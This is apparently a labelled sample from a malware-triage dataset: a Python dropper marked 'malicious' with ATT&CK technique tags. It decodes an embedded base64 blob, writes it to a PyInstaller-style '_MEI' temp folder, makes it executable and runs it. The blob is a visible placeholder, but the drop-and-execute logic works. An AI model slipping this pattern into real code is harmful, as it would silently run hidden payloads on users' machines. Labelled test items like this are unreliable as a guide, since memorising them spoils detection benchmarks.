# label: malicious family=packer techniques=T1027,T1027.002,T1036.005,T1140,T1222.002 lines=3,6-8
import sys, os, base64, subprocess, tempfile
MEI = "UEsDBBQAAAAIAPytriageCORPUSfakePyInstallerArchiveMEI0000000000000000000000000000000000000000000000000000000000000000000000000=="
p = os.path.join(tempfile.gettempdir(), "_MEI%d" % os.getpid())
os.makedirs(p, exist_ok=True)
open(os.path.join(p, "run"), "wb").write(base64.b64decode(MEI + "=" * 0))
os.chmod(os.path.join(p, "run"), 0o755)
subprocess.Popen([os.path.join(p, "run")])
